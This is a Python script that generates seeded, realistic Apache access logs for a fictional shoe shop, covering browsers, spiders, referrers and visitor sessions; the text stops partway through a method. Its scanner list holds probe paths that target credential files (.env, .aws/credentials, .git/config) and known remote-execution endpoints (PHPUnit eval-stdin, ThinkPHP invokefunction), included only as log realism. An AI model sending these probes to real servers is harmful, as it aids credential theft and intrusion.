#!/usr/bin/env python3
"""Seeded generator of realistic web-server access logs (Apache combined format).

The log belongs to a small shoe shop at example.com. It holds human sessions (a page,
then its stylesheets, scripts and images, then further pages with internal referrers),
search-engine and external referrers, spiders, scanners and monitors, redirects, errors,
partial downloads, session IDs in URLs, a few host names instead of addresses, a few
Latin-1 bytes and about one malformed line in 2000.

The same arguments always give the same bytes: every random choice comes from one
seeded generator, nothing iterates a set or dict, and gzip output carries no name or
time stamp.

With --variety real the shop is seen as a public site sees it: agents of every browser,
version, system and device with a long tail of rare ones, bots of all sizes, a share of IPv6
and of host names among many networks, links with filters, paging, search terms, campaign
tags and session IDs, and referrers from many search engines, social and other sites. The
distinct counts grow with the number of lines. --stats prints them.

Usage:
    python3 tools/genlog.py --lines N --seed S [--days D] [--start 2026-11-02]
                            [--tz +0100] [--variety low|real] [--stats] [--gzip] -o FILE
"""

import argparse
import datetime
import gzip
import random
import sys
import urllib.parse
from operator import itemgetter

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
DAY = 86400
HOUR = 3600

# Share of lines per kind of client.
HUMAN_SHARE = 0.80
SPIDER_SHARE = 0.15
# The rest: scanners, monitors, feed readers, command-line tools.

# Relative human traffic per hour of the day (evening peak, quiet night).
DIURNAL = [0.45, 0.30, 0.22, 0.18, 0.17, 0.22, 0.40, 0.65, 0.85, 0.95, 1.00, 1.00,
           1.05, 1.00, 0.95, 0.95, 0.95, 1.00, 1.10, 1.25, 1.35, 1.25, 1.00, 0.70]

MALFORMED_EVERY = 2000
ODD_LINK_EVERY = 2500


def weighted(rng, items):
    """items: list of (weight, value). Returns a picker function."""
    cum = []
    total = 0.0
    for w, _ in items:
        total += w
        cum.append(total)
    values = [v for _, v in items]
    choices = rng.choices

    def pick():
        return choices(values, cum_weights=cum)[0]
    return pick


# ---------------------------------------------------------------------------
# User agents

def browser_agents():
    """(weight, agent, is_ios) for human browsers, current and legacy."""
    out = []

    def add(w, ua, ios=False):
        out.append((w, ua, ios))

    chrome = [(131, 6), (130, 10), (129, 6), (128, 3), (126, 1.5), (124, 1), (120, 0.8), (109, 0.7)]
    for v, w in chrome:
        cv = f"{v}.0.0.0"
        add(3.0 * w, f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv} Safari/537.36")
        add(0.9 * w, f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv} Safari/537.36")
        add(0.3 * w, f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv} Safari/537.36")
        add(2.8 * w, f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv} Mobile Safari/537.36")
        add(0.5 * w, f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv} Safari/537.36 Edg/{cv}")
        add(0.15 * w, f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv} Safari/537.36 OPR/{v - 15}.0.0.0")
        add(0.25 * w, f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/{v}.0.6778.73 Mobile/15E148 Safari/604.1", True)
    add(1.2, "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36")
    add(0.6, "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36")
    add(0.6, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 YaBrowser/24.10.0.0 Safari/537.36")

    for v, w in [(133, 3), (132, 4), (128, 1.5), (115, 0.6)]:
        add(1.6 * w, f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0")
        add(0.3 * w, f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{v}.0) Gecko/20100101 Firefox/{v}.0")
        add(0.5 * w, f"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0")
        add(0.2 * w, f"Mozilla/5.0 (Android 14; Mobile; rv:{v}.0) Gecko/{v}.0 Firefox/{v}.0")

    for ver, w in [("18_1", 8), ("18_0", 6), ("17_6", 5), ("17_4", 2), ("16_7", 1.5), ("15_8", 0.6)]:
        sv = ver.replace("_", ".")
        add(1.8 * w, f"Mozilla/5.0 (iPhone; CPU iPhone OS {ver} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{sv} Mobile/15E148 Safari/604.1", True)
        add(0.3 * w, f"Mozilla/5.0 (iPad; CPU OS {ver} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{sv} Mobile/15E148 Safari/604.1", True)
        add(0.5 * w, f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{sv} Safari/605.1.15")

    for model, w in [("SM-S921B", 3), ("SM-A546B", 3), ("SM-G991B", 2), ("SM-A137F", 1)]:
        add(w, f"Mozilla/5.0 (Linux; Android 14; SAMSUNG {model}) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36")
    add(0.8, "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-T220) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Safari/537.36")

    # Legacy browsers still seen now and then.
    add(1.0, "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko")
    add(0.4, "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko")
    add(0.3, "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)")
    add(0.3, "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)")
    add(0.3, "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; .NET CLR 3.5.30729)")
    add(0.2, "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR 1.1.4322)")
    add(0.15, "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")
    add(0.05, "Mozilla/4.0 (compatible; MSIE 5.5; Windows 98; Win 9x 4.90)")
    add(0.05, "Mozilla/4.0 (compatible; MSIE 5.23; Mac_PowerPC)")
    add(0.3, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.19045")
    add(0.2, "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.16")
    add(0.05, "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25 Version/10.54")
    add(0.15, "Mozilla/5.0 (Windows; U; Windows NT 5.1; de; rv:1.9.2.13) Gecko/20101203 Firefox/3.6.13")
    add(0.05, "Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en) AppleWebKit/125.2 (KHTML, like Gecko) Safari/125.8")
    add(0.05, "Mozilla/4.79 [en] (Windows NT 5.0; U)")
    add(0.1, "Mozilla/5.0 (Linux; U; Android 4.4.2; de-de; GT-I9505 Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30")
    add(0.1, "Mozilla/5.0 (iPhone; CPU iPhone OS 9_3_5 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) Version/9.0 Mobile/13G36 Safari/601.1", True)
    add(0.1, "BlackBerry9700/5.0.0.351 Profile/MIDP-2.1 Configuration/CLDC-1.1 VendorID/123")
    # In-app browsers.
    add(0.6, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22B83 [FBAN/FBIOS;FBAV/489.0.0.42.107;FBBV/654321;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/18.1;FBSS/3;FBLC/de_DE;FBOP/5]", True)
    add(0.4, "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240905.003; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.86 Mobile Safari/537.36 Instagram 355.0.0.38.104 Android")
    # Non-ASCII agents: two carry Latin-1 bytes (not valid UTF-8), one carries UTF-8.
    add(0.5, "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; B\xfcro-PC; .NET CLR 2.0.50727)")
    add(0.3, "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0 Ma\xefs\xe9-Portail/1.0")
    add(0.2, utf8_as_latin1("SchuhApp/2.4 (iPhone; iOS 17.6; Größe 42; Köln)"), True)
    return out


def utf8_as_latin1(text):
    """Text whose Latin-1 encoding gives the UTF-8 bytes of `text`.

    Lines are encoded as Latin-1 on output, so this is how raw UTF-8 reaches the file.
    """
    return text.encode("utf-8").decode("latin-1")


SPIDERS = [
    # weight, agents, address prefixes (first three octets or less), host-name pattern
    (30, ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
          "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.116 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
          "Googlebot-Image/1.0"],
     ["66.249.66", "66.249.68", "66.249.70", "66.249.79"], "crawl-{a}-{b}-{c}-{d}.googlebot.com"),
    (16, ["Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
          "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"],
     ["157.55.39", "40.77.167", "207.46.13"], "msnbot-{a}-{b}-{c}-{d}.search.msn.com"),
    (7, ["Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
         "Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)"],
     ["5.255.231", "213.180.203", "87.250.224"], "{a}-{b}-{c}-{d}.spider.yandex.com"),
    (5, ["Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
         "Mozilla/5.0 (Linux;u;Android 4.2.2;zh-cn;) AppleWebKit/534.46 (KHTML,like Gecko) Version/5.1 Mobile Safari/10600.6.3 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"],
     ["220.181.108", "116.179.32", "180.76.15"], "baiduspider-{a}-{b}-{c}-{d}.crawl.baidu.com"),
    (3, ["DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"],
     ["20.191.45", "40.88.21"], None),
    (3, ["Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"],
     ["17.241.219", "17.241.227"], None),
    (8, ["Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"],
     ["54.36.148", "54.36.149", "51.222.253"], "ip-{a}-{b}-{c}-{d}.a.ahrefs.com"),
    (7, ["Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"],
     ["185.191.171"], None),
    (4, ["Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"],
     ["136.243.228", "144.76.1", "5.9.98"], None),
    (3, ["Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)"],
     ["74.6.168", "68.180.228"], "b{a}-{b}-{c}-{d}.crawl.yahoo.net"),
    (2, ["facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"],
     ["69.171.230", "173.252.83"], "fwdproxy-{a}-{b}-{c}-{d}.fbsv.net"),
    (2, ["Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"],
     ["114.119.132"], "petalbot-{a}-{b}-{c}-{d}.petalsearch.com"),
    (2, ["Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"],
     ["20.171.207"], None),
    (1, ["msnbot/2.0b (+http://search.msn.com/msnbot.htm)"],
     ["65.55.213"], "msnbot-{a}-{b}-{c}-{d}.search.msn.com"),
    (1, ["ia_archiver (+http://www.alexa.com/site/help/webmasters; crawler@alexa.com)"],
     ["204.236.235"], None),
]

SCANNER_AGENTS = [
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "-",
]
SCANNER_PATHS = [
    "/wp-login.php", "/.env", "/xmlrpc.php", "/wp-admin/setup-config.php", "/.git/config",
    "/phpmyadmin/index.php", "/admin.php", "/config.json", "/cgi-bin/test.cgi",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/wp-content/plugins/revslider/readme.txt",
    "/owa/auth/logon.aspx", "/.aws/credentials", "/server-status", "/backup.zip",
    "/index.php?s=/Index/\\think\\app/invokefunction", "/admin/login.asp", "/.DS_Store",
]
TOOL_AGENTS = ["curl/8.5.0", "Wget/1.21.4", "curl/7.68.0", "libwww-perl/6.72",
               "Java/17.0.9", "okhttp/4.12.0"]
MONITOR_AGENT = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
CHECKER_AGENT = "W3C-checklink/4.81 libwww-perl/6.72"
FEED_AGENTS = ["Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)",
               "Tiny Tiny RSS/23.12 (https://tt-rss.org/)",
               "NetNewsWire (RSS Reader; https://netnewswire.com/)"]


# ---------------------------------------------------------------------------
# Search terms and referrers

SEARCH_TERMS = [
    "red shoes!", "red shoes", "running shoes", "buy sneakers online", "leather boots size 42",
    "example shoes", "example.com", "waterproof hiking boots", "kids sandals", "white sneakers women",
    "chelsea boots men", "shoe shop near me", "trail running shoes review", "cheap boots sale",
    "canvas slip-on", "navy high-top sneakers", "how to clean suede shoes", "shoe size chart eu us",
    "m\u00fcnchen schuhe", "schuhe g\u00fcnstig kaufen", "wanderschuhe gr\u00f6\u00dfe 44",
    "chaussures rouges", "baskets femme \u00e9t\u00e9", "zapatos rojos ni\u00f1os",
    "\u4f60\u597d", "\u7ea2\u978b\u5b50", "\u043a\u0440\u043e\u0441\u0441\u043e\u0432\u043a\u0438",
    "\u0431\u043e\u0442\u0438\u043d\u043a\u0438 \u043a\u043e\u0436\u0430",
    "c++ & shoes", "\"red runner\" price", "50% off sneakers", "shoes+socks", "example shoes coupon code",
    "r\u00e9sum\u00e9 shoes", "best shoes 2026", "boots", "sneakers", "sale",
]

EXTERNAL_REFERRERS = [
    (10, "https://www.facebook.com/"), (8, "https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.example.com%2F&h=AT0x"),
    (6, "https://t.co/Xk3vQp9Lm2"), (5, "https://www.instagram.com/"),
    (4, "https://www.reddit.com/r/running/comments/1gq2x7a/best_trail_shoes_this_year/"),
    (3, "https://news.ycombinator.com/item?id=42123456"), (3, "https://en.wikipedia.org/wiki/Sneakers"),
    (4, "https://forum.example.org/viewtopic.php?t=1234&start=20"),
    (4, "http://blog.example.net/2025/10/best-shoes-for-autumn.html"),
    (3, "https://www.pinterest.com/pin/123456789012345678/"),
    (3, "https://www.youtube.com/"), (2, "android-app://com.google.android.gm/"),
    (2, "https://mail.yahoo.com/"), (2, "https://outlook.live.com/"),
    (2, "https://www.schuhvergleich.example.de/vergleich?kat=sneaker"),
    (2, "http://www.shoe-directory.example.org/links/shops.html"),
    (1, "https://www.example.co.uk/"), (1, "http://localhost:8080/test.html"),
    (1, "https://chatgpt.com/"), (1, "https://www.linkedin.com/"),
]


class Referrers:
    """Builds search-engine and external referrers."""

    def __init__(self, rng):
        self.rng = rng
        self.external = weighted(rng, EXTERNAL_REFERRERS)
        self.term = weighted(rng, [(1.0 / (i + 2) ** 0.6, t) for i, t in enumerate(SEARCH_TERMS)])
        plus = {t: urllib.parse.quote_plus(t) for t in SEARCH_TERMS}
        pct = {t: urllib.parse.quote(t, safe="") for t in SEARCH_TERMS}
        latin = {}
        for t in SEARCH_TERMS:
            try:
                latin[t] = urllib.parse.quote_plus(t, encoding="latin-1")
            except UnicodeEncodeError:
                latin[t] = plus[t]
        self.plus, self.pct, self.latin = plus, pct, latin
        R = rng

        def google(t):
            tld = R.choice(["com", "com", "com", "de", "co.uk", "fr", "nl", "es"])
            if R.random() < 0.55:  # modern Google mostly hides the query
                return f"https://www.google.{tld}/", False
            return f"https://www.google.{tld}/search?q={plus[t]}&hl={R.choice(['en', 'de', 'fr'])}&source=hp", True

        def google_old(t):
            return f"http://www.google.de/search?hl=de&q={R.choice([plus, latin])[t]}&btnG=Google-Suche&meta=", True

        def bing(t):
            if R.random() < 0.2:
                return "https://www.bing.com/", False
            return f"https://www.bing.com/search?q={plus[t]}&form=QBLH&sp=-1", True

        engines = [
            (55, google), (3, google_old), (12, bing),
            (6, lambda t: (f"https://duckduckgo.com/?q={plus[t]}&t=h_&ia=web", True)),
            (4, lambda t: (f"https://search.yahoo.com/search?p={plus[t]}&fr=yfp-t", True)),
            (4, lambda t: (f"https://yandex.ru/search/?text={pct[t]}&lr=213", True)),
            (3, lambda t: (f"https://www.baidu.com/s?wd={pct[t]}&ie=utf-8", True)),
            (3, lambda t: (f"https://www.ecosia.org/search?method=index&q={plus[t]}", True)),
            (1, lambda t: (f"http://search.msn.com/results.aspx?q={plus[t]}&FORM=MSNH", True)),
            (1, lambda t: (f"http://www.altavista.com/web/results?itag=ody&q={latin[t]}&kgs=1&kls=0", True)),
            (1, lambda t: (f"https://suche.t-online.de/fast-cgi/tsc?q={latin[t]}&context=internet-tab", True)),
            (1, lambda t: (f"https://www.google.com/url?sa=t&rct=j&q={plus[t]}&esrc=s&source=web&cd=3", True)),
        ]
        self.engine = weighted(rng, [(w, f) for w, f in engines])
        self.google = google

    def search(self):
        """(referrer, is_google_with_query)."""
        t = self.term()
        f = self.engine()
        ref, has_q = f(t)
        return ref, has_q and ref.startswith("https://www.google.")

    def google_ad(self):
        t = self.term()
        return f"https://www.google.com/search?q={self.plus[t]}&hl=en"


# ---------------------------------------------------------------------------
# The site

class Page:
    __slots__ = ("url", "kind", "size", "assets", "dynamic")

    def __init__(self, url, kind, size, assets, dynamic=False):
        self.url = url
        self.kind = kind
        self.size = size
        self.assets = assets  # [(url, size)]
        self.dynamic = dynamic


class Site:
    def __init__(self, rng):
        R = rng
        self.common = [
            ("/css/site.css?v=4.2", 48213), ("/js/jquery-3.7.1.min.js", 87533),
            ("/js/app.js?v=4.2", 31877), ("/images/logo.svg", 6120), ("/images/sprite.png", 24551),
            ("/fonts/opensans-regular.woff2", 63980), ("/favicon.ico", 5430),
        ]
        cats = ["sneakers", "boots", "sandals", "running", "kids", "sale"]
        colours = ["red", "blue", "black", "white", "green", "grey", "brown", "navy"]
        styles = ["runner", "classic", "trail", "city", "high-top", "chelsea", "hiking",
                  "slip-on", "canvas", "leather"]
        self.products = []
        self.cats = []
        seen = []
        for c in cats:
            prods = []
            for _ in range(22):
                while True:
                    slug = f"{R.choice(colours)}-{R.choice(styles)}-{R.randint(1, 60)}"
                    if slug not in seen:
                        seen.append(slug)
                        break
                imgs = [(f"/images/products/{slug}-{i}.jpg", R.randint(38000, 190000))
                        for i in range(1, R.randint(2, 4) + 1)]
                p = Page(f"/{c}/{slug}.html", "prod", R.randint(18000, 42000), imgs)
                prods.append(p)
                self.products.append(p)
            thumbs = [(f"/images/thumbs/{p.url.rsplit('/', 1)[1][:-5]}.webp", R.randint(4000, 14000))
                      for p in prods[:8]]
            self.cats.append(Page(f"/{c}/", "cat", R.randint(22000, 36000),
                                  thumbs + [(f"/images/banners/{c}.jpg", R.randint(60000, 140000))]))
        R.shuffle(self.products)  # popularity order
        self.home = Page("/", "home", 31250, [("/images/banners/hero-autumn.jpg", 182340),
                                              ("/images/banners/sale.webp", 58211)]
                         + [(f"/images/thumbs/{p.url.rsplit('/', 1)[1][:-5]}.webp", R.randint(4000, 14000))
                            for p in self.products[:4]])
        self.blog = []
        titles = ["how-to-clean-suede", "autumn-trends", "choosing-running-shoes", "size-guide",
                  "boots-care", "sneaker-history", "kids-feet", "trail-season", "vegan-leather",
                  "our-new-store", "black-friday-preview", "socks-matter", "barefoot-shoes",
                  "winter-boots-test", "marathon-tips"]
        for i, t in enumerate(titles):
            month = 1 + (i * 7) % 10
            imgs = [(f"/images/blog/{t}-{k}.{R.choice(['png', 'png', 'jpg', 'gif'])}", R.randint(20000, 240000))
                    for k in range(1, R.randint(1, 3) + 1)]
            self.blog.append(Page(f"/blog/2026/{month:02d}/{t}.html", "blog", R.randint(14000, 30000), imgs))
        self.blog_index = Page("/blog/", "blog", 21400, [])
        self.info = [Page(u, "info", s, a) for u, s, a in [
            ("/about.html", 12400, [("/images/team.jpg", 121500)]),
            ("/faq.html", 19800, []), ("/stores.html", 15200, [("/images/map.png", 88100)]),
            ("/shipping.html", 9800, []), ("/returns.html", 8900, []),
            ("/impressum.html", 6100, []), ("/privacy.html", 23800, []),
        ]]
        self.contact = Page("/contact.php", "info", 11300, [], True)
        self.cart = Page("/cart.php", "cart", 14800, [], True)
        self.checkout = Page("/checkout/index.php", "cart", 17600, [("/images/payment-icons.png", 12800)], True)
        self.thanks = Page("/checkout/thanks.html", "info", 7400, [])
        self.items = [Page(f"/shop/item.php?item={i}", "item", R.randint(16000, 30000),
                           [(f"/images/items/{i}.jpg", R.randint(30000, 120000))], True)
                      for i in range(1, 121)]
        self.redirects = ["/index.htm", "/index.php", "/shop/", "/blog", "/sneakers", "/catalog.pdf",
                          "/Shoes/Red.html", "/boots"]
        self.dead = ["/shoes/old-model-2019.html", "/images/banner-summer.jpg",
                     "/blog/2019/05/archived-post.html", "/specials.htm", "/sale/red-runner-7.html",
                     "/images/products/blue-trail-3-5.jpg", "/js/old-tracker.js"]
        # Bytes that are not UTF-8 (Latin-1) and bytes that are (raw UTF-8) in links elsewhere.
        self.dead_odd = ["/suche/m\xfcnchen.html", "/files/r\xe9sum\xe9.pdf", "/gr\xf6\xdfen.html",
                         utf8_as_latin1("/städte/köln.html")]
        self.downloads = [("/downloads/catalogue-2026.pdf", 2457613), ("/downloads/size-chart.pdf", 183220)]
        self.video = ("/media/intro.mp4", 18344501)
        self.all_pages = ([self.home, self.blog_index] + self.cats + self.products + self.blog
                          + self.info + [self.contact, self.cart] + self.items)


# ---------------------------------------------------------------------------
# Addresses

# First octets that never browse the web: private, loopback, link-local and the blocks of
# military networks that do not route publicly.
_NO_CLIENTS = frozenset([0, 6, 7, 10, 11, 21, 22, 26, 28, 29, 30, 33, 55, 127, 214, 215])


def random_ipv4(rng):
    g = rng.getrandbits
    while True:
        a = 1 + g(8) % 223
        if a in _NO_CLIENTS:
            continue
        b, c, d = g(8), g(8), 1 + g(8) % 254
        if (a == 192 and b == 168) or (a == 172 and 16 <= b < 32) or (a == 169 and b == 254):
            continue
        return a, b, c, d


HOSTNAME_PATTERNS = [
    "p{hex}.dip0.example.de", "{d}.{c}.{b}.{a}.static.example.net", "host-{a}-{b}-{c}-{d}.example.fr",
    "cpc{n}-lutn{k}-2-0-cust{d}.example.co.uk", "ip-{a}-{b}-{c}-{d}.example.nl",
    "dsl-{b}-{c}-{d}.example.it", "{a}-{b}-{c}-{d}.dyn.example.ch",
]
IPV6_PREFIXES = ["2a02:8108", "2003:e5", "2a01:cb00", "2600:1700", "2001:16b8", "2a00:23c6", "2409:4060"]


def make_address_pool(rng, size):
    R = rng
    hosts = []
    for i in range(size):
        a, b, c, d = random_ipv4(R)
        r = R.random()
        if r < 0.04:
            pat = R.choice(HOSTNAME_PATTERNS)
            hosts.append(pat.format(a=a, b=b, c=c, d=d, hex=f"{a:02X}{b:02X}{c:02X}{d:02X}",
                                    n=R.randint(1, 99), k=R.randint(1, 9)))
        elif r < 0.055:
            g = R.getrandbits
            hosts.append(f"{R.choice(IPV6_PREFIXES)}:{g(16):x}:{g(16):x}::{g(16):x}")
        else:
            hosts.append(f"{a}.{b}.{c}.{d}")
    # A corporate proxy behind which many people browse.
    if size > 20:
        hosts[R.randrange(size)] = "host.example.de"
    return hosts


# ---------------------------------------------------------------------------
# The generator

class Generator:
    def __init__(self, lines, seed, days, start, tz):
        self.N = lines
        self.rng = random.Random(seed)
        self.days = days
        self.start = start
        self.tz = tz
        R = self.rng
        self.site = Site(R)
        self.refs = Referrers(R)

        agents = browser_agents()
        self.agents = [a for _, a, _ in agents]
        self.agent_ios = [ios for _, _, ios in agents]
        cum, tot = [], 0.0
        for w, _, _ in agents:
            tot += w
            cum.append(tot)
        self.agent_cum = cum
        pool = max(8, lines // 15)
        self.hosts = make_address_pool(R, pool)
        self.host_agent = R.choices(range(len(agents)), cum_weights=cum, k=pool)
        self.shared = bytearray(pool)
        for i in range(pool):
            if R.random() < 0.03 or self.hosts[i] == "host.example.de":
                self.shared[i] = 1
        self.visited = bytearray(pool)

        # Spiders: a few addresses each.
        self.spider_kinds = []
        for w, uas, prefixes, namepat in SPIDERS:
            addrs = []
            for _ in range(max(3, min(60, lines // 40000 + 4))):
                pre = R.choice(prefixes)
                d = R.randint(1, 254)
                ip = f"{pre}.{d}"
                if namepat and R.random() < 0.5:
                    a, b, c = pre.split(".")
                    ip = namepat.format(a=a, b=b, c=c, d=d)
                addrs.append(ip)
            self.spider_kinds.append((w, (uas, addrs)))
        self.spider_pick = weighted(R, self.spider_kinds)

        # Time-stamp text: one string per day prefix and one per second of the day.
        self.hms = [f"{h:02d}:{m:02d}:{s:02d} {tz}]" for h in range(24) for m in range(60) for s in range(60)]
        self.dayp = []
        for d in range(days + 2):
            dt = start + datetime.timedelta(days=d)
            self.dayp.append(f"[{dt.day:02d}/{MONTHS[dt.month - 1]}/{dt.year}:")

        self.real = False
        self.stay = 0.70  # chance that a visitor goes on to another page
        self.out = []
        self.mangled = R.randrange(3)
        self.odd_links = 0

    # -- line emission -------------------------------------------------------

    def emit(self, t, host, method, url, status, nbytes, ref, ua, proto="HTTP/1.1"):
        self.out.append((t, f'{host} - - {self.dayp[t // DAY]}{self.hms[t % DAY]} "{method} {url} {proto}" '
                            f'{status} {nbytes} "{ref}" "{ua}"\n'))

    # -- humans ----------------------------------------------------------------

    def human_session(self, t):
        R = self.rng
        rnd = R.random
        site = self.site
        emit = self.emit
        host, ua, ios, returning = self.pick_visitor(t)
        proto = "HTTP/2.0" if ("Chrome/1" in ua or "Firefox/13" in ua or "Version/1" in ua) and rnd() < 0.45 else "HTTP/1.1"
        base = self.site_base()
        sid = self.session_id()

        # Entry: where the visitor came from and where they land.
        r = rnd()
        gclid = False
        if r < 0.36:
            ref = "-"
        elif r < 0.66:
            ref, is_google_q = self.refs.search()
            if is_google_q and rnd() < 0.15:
                gclid = True
        elif r < 0.68:
            ref = self.refs.google_ad()
            gclid = True
        elif r < 0.84:
            ref = self.refs.external()
        else:
            ref = base + self.page_url(self.pick_page(None))
        page = self.entry_page()
        if rnd() < 0.015:
            # An old bookmark or link: redirected, then the real page with the same referrer.
            emit(t, host, "GET", R.choice(site.redirects), 301, R.randint(228, 260), ref, ua, proto)
            t += 1
            page = site.home
        n_pages = 0
        last_url = None
        while True:
            url = self.page_url(page)
            if sid is not None and (page.dynamic or rnd() < 0.5):
                if "?" not in url:
                    url += "?" + sid
                elif rnd() < 0.5:
                    path, query = url.split("?", 1)
                    url = f"{path}?{sid}&{query}"
                else:
                    url += "&" + sid
            if gclid and n_pages == 0:
                url += ("&" if "?" in url else "?") + "gclid=" + self.gclid_value()
            if self.real and n_pages == 0:
                url = self.landing_tags(url, ref, gclid)
            status = 200
            nbytes = page.size
            if page.dynamic:
                nbytes = int(nbytes * (0.85 + 0.3 * rnd()))
                if rnd() < 0.004:
                    status, nbytes = 500, 612
            elif returning and rnd() < 0.08:
                status, nbytes = 304, "-"
            emit(t, host, "GET", url, status, nbytes, ref, ua, proto)
            here = base + url
            if status == 200 or status == 304:
                tt = t
                if n_pages == 0:
                    if returning and rnd() < 0.7:
                        for aurl, _ in self.common_assets(t):
                            if rnd() < 0.55:
                                tt += int(rnd() < 0.4)
                                emit(tt, host, "GET", aurl, 304, "-", here, ua, proto)
                    else:
                        for aurl, asize in self.common_assets(t):
                            tt += int(rnd() < 0.4)
                            emit(tt, host, "GET", aurl, 200, asize, here, ua, proto)
                    if ios and rnd() < 0.35:
                        emit(tt, host, "GET", "/apple-touch-icon-precomposed.png", 404, 209, "-", ua, proto)
                        emit(tt, host, "GET", "/apple-touch-icon.png", 404, 209, "-", ua, proto)
                elif rnd() < 0.05:
                    emit(tt, host, "GET", self.common_assets(t)[0][0], 304, "-", here, ua, proto)
